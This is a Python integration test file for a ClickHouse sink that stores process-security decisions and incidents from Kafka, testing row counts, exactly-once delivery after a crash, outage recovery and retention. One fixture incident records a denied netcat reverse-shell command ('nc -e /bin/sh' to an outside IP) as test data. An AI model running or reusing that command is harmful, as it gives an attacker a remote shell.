"""The ClickHouse sink on the real Kafka and ClickHouse: rows, exactly once, outages."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from procwarden.stack import Stack
from schemas import (
    ChangeKind,
    CollectorReport,
    Decision,
    EventKind,
    Incident,
    IncidentAction,
    Level,
    Mode,
    ProfileChange,
    Verdict,
)
from schemas.connections import ClickHouseConnection, KafkaConnection
from schemas.records import replace
from schemas.topics import (
    COLLECTOR_REPORTS,
    DLQ,
    PROFILE_CHANGES,
    SECURITY_EVENTS,
    VERDICTS,
    WORKLOADS,
)
from sinks.clickhouse.migrations import connect
from sinks.clickhouse.writer import ClickHouseWriter
from tests.integration.streamkit import NODE, Pipeline
from tests.integration.test_streams import WORKLOAD


@pytest.fixture
def pipe(kafka: KafkaConnection, tmp_path: Path) -> Iterator[Pipeline]:
    yield Pipeline(kafka, tmp_path)


def decision(i: int, verdict: Verdict = Verdict.ALLOW) -> Decision:
    return Decision(event_id=f"ev-{i}", event_kind=EventKind.EXEC, workload_id=WORKLOAD.id,
                    node=NODE, verdict=verdict, reason="rule", group="nv.web.demo",
                    mode=Mode.PROTECT, pid=100 + i, name="ls", path="/bin/ls", user="root",
                    ts=1_700_000_000.25 + i)


def incident(i: int) -> Incident:
    return Incident(name="Process.Profile.Violation", level=Level.WARNING,
                    reported_timestamp=1_700_000_000 + i, reported_at="2023-11-14T22:13:20Z",
                    cluster_name="test", host_id=NODE, host_name=NODE, enforcer_id="e",
                    enforcer_name="e", id=f"inc-{i}", workload_id=WORKLOAD.id,
                    workload_name="web", workload_domain="demo", workload_image="busybox",
                    workload_service="web.demo", action=IncidentAction.DENY, group="nv.web.demo",
                    rule_id="00000000-0000-0000-0000-000000000000",
                    message="Process profile violation: execution denied", proc_name="nc",
                    proc_path="/usr/bin/nc", proc_cmd="nc -e /bin/sh 1.2.3.4 | x=y\\n")


class Running:
    """A writer in a thread, stopped on demand."""

    def __init__(self, writer: ClickHouseWriter) -> None:
        self.writer = writer
        self.stop = threading.Event()
        self.error: BaseException | None = None
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        try:
            self.writer.run(self.stop.is_set)
        except BaseException as exc:
            self.error = exc

    def halt(self) -> None:
        self.stop.set()
        self.thread.join(60)
        self.writer.close()


def writer_for(pipe: Pipeline, db: str, **kw: object) -> ClickHouseWriter:
    return ClickHouseWriter(pipe.kafka, ClickHouseConnection(database=db),
                            group_id=f"sink-{pipe.prefix}", batch_seconds=0.2, **kw)  # type: ignore[arg-type]


def count(db: str, table: str, where: str = "1") -> int:
    client = connect(ClickHouseConnection())
    try:
        return int(client.execute(f"SELECT count() FROM {db}.{table} FINAL WHERE {where}")[0][0])
    finally:
        client.disconnect()


def wait_count(db: str, table: str, expected: int, timeout: float = 30.0) -> int:
    deadline = time.monotonic() + timeout
    got = -1
    while time.monotonic() < deadline:
        try:
            got = count(db, table)
        except Exception:
            got = -1
        if got >= expected:
            return got
        time.sleep(0.2)
    return got


def test_topics_to_rows(pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnection, str]) -> None:
    _, db = clickhouse_db
    for i in range(200):
        pipe.send(VERDICTS.name, NODE, decision(i, Verdict.BLOCK if i % 10 == 0 else Verdict.ALLOW))
    pipe.send(SECURITY_EVENTS.name, "nv.web.demo", incident(1))
    pipe.send(PROFILE_CHANGES.name, "nv.web.demo", ProfileChange(
        group="nv.web.demo", change=ChangeKind.MODE_CHANGED, version=3, ts=1_700_000_000.0,
        actor="api", detail="mode=Protect"))
    pipe.send(WORKLOADS.name, WORKLOAD.id, replace(WORKLOAD, labels={"app": "web"}))
    pipe.send(COLLECTOR_REPORTS.name, NODE, CollectorReport(
        node=NODE, started_at=1_700_000_000.0, execs=50, reported=48,
        lost={"process_gone": 2}, spool_bytes=0))
    pipe.send_raw(VERDICTS.name, NODE, b"not json")
    running = Running(writer_for(pipe, db))
    try:
        assert wait_count(db, "events", 200) == 200
        assert wait_count(db, "security_events", 1) == 1
        assert wait_count(db, "profile_changes", 1) == 1
        assert wait_count(db, "workloads", 1) == 1
        assert wait_count(db, "collector_reports", 1) == 1
    finally:
        running.halt()
    assert running.error is None
    client = connect(ClickHouseConnection())
    blocks = client.execute(f"SELECT count(), min(ts_ms), any(mode) FROM {db}.events FINAL "
                            "WHERE verdict = 'block'")
    assert blocks == [(20, 250, "Protect")]
    row = client.execute(f"SELECT proc_cmd, action, group_name FROM {db}.security_events")
    assert row == [("nc -e /bin/sh 1.2.3.4 | x=y\\n", "deny", "nv.web.demo")]
    labels = client.execute(f"SELECT label_keys, label_values FROM {db}.workloads")
    assert labels == [(["app"], ["web"])]
    losses = client.execute(f"SELECT node, loss_reasons, loss_counts FROM {db}.collector_reports")
    assert losses == [(NODE, ["process_gone"], [2])]
    client.disconnect()
    dlq = [e.payload for e in pipe.read_all(DLQ.name, settle=1.0)]
    assert len(dlq) == 1 and "not valid JSON" in dlq[0].error  # type: ignore[union-attr]


def test_crash_between_insert_and_commit_leaves_no_duplicates(
        pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnection, str]) -> None:
    _, db = clickhouse_db
    for i in range(500):
        pipe.send(VERDICTS.name, NODE, decision(i))

    def crash(_: int) -> None:
        raise RuntimeError("crash after insert, before commit")

    first = Running(writer_for(pipe, db, after_insert=crash))
    first.thread.join(60)
    first.writer.close()
    assert isinstance(first.error, RuntimeError)
    raw = connect(ClickHouseConnection())
    stored_once = raw.execute(f"SELECT count() FROM {db}.events")[0][0]
    assert stored_once > 0
    second = Running(writer_for(pipe, db))
    try:
        assert wait_count(db, "events", 500) == 500
        time.sleep(1.0)
        assert raw.execute(f"SELECT count() FROM {db}.events")[0][0] > 500  # replayed ...
        assert count(db, "events") == 500  # ... and exactly once in FINAL
        assert raw.execute(f"SELECT uniqExact(event_id) FROM {db}.events")[0][0] == 500
    finally:
        second.halt()
        raw.disconnect()


def test_clickhouse_outage_loses_nothing(pipe: Pipeline, stack: Stack,
                                         clickhouse_db: tuple[ClickHouseConnection, str]) -> None:
    _, db = clickhouse_db
    running = Running(writer_for(pipe, db, max_backoff=1.0))
    try:
        for i in range(100):
            pipe.send(VERDICTS.name, NODE, decision(i))
        assert wait_count(db, "events", 100) == 100
        stack.clickhouse.stop()
        for i in range(100, 1100):
            pipe.send(VERDICTS.name, NODE, decision(i))
        time.sleep(3)
        assert running.thread.is_alive() and running.error is None
        stack.clickhouse.start(say=lambda m: None)
        assert wait_count(db, "events", 1100, timeout=60) == 1100
    finally:
        if not stack.clickhouse.ready():
            stack.clickhouse.start(say=lambda m: None)
        running.halt()
    assert running.error is None


def test_the_sink_command(pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnection, str],
                          tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys

    from tests.integration.streamkit import ROOT, free_port

    _, db = clickhouse_db
    for i in range(50):
        pipe.send(VERDICTS.name, NODE, decision(i))
    env = {**os.environ, "PROCWARDEN_KAFKA_TOPIC_PREFIX": pipe.prefix,
           "PROCWARDEN_CLICKHOUSE_DATABASE": db, "SINKS_GROUP_ID": f"cli-{pipe.prefix}",
           "SINKS_METRICS_PORT": str(free_port())}
    with open(tmp_path / "sink.log", "wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "procwarden.cli", "sink-clickhouse"],
                                cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        assert wait_count(db, "events", 50) == 50
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(30) == 0, (tmp_path / "sink.log").read_text()


def test_retention_drops_old_partitions_only(pipe: Pipeline,
                                             clickhouse_db: tuple[ClickHouseConnection, str]
                                             ) -> None:
    _, db = clickhouse_db
    now = time.time()
    for i, age_days in enumerate((45, 31, 29, 1, 0)):
        pipe.send(VERDICTS.name, NODE, replace(decision(i), ts=now - age_days * 86400))
    writer = writer_for(pipe, db, retention_days=30)
    stop = threading.Event()
    thread = threading.Thread(target=writer.run, args=(stop.is_set,))
    thread.start()
    try:
        assert wait_count(db, "events", 5) == 5
    finally:
        stop.set()
        thread.join(30)
    # The pass at start-up ran before the rows came; run it again now that they are stored.
    dropped = writer.apply_retention()
    writer.close()
    assert [t for t, _ in dropped] == ["events", "events"]
    assert count(db, "events") == 3
    assert count(db, "events", f"ts < toDateTime({int(now - 30 * 86400)})") == 0
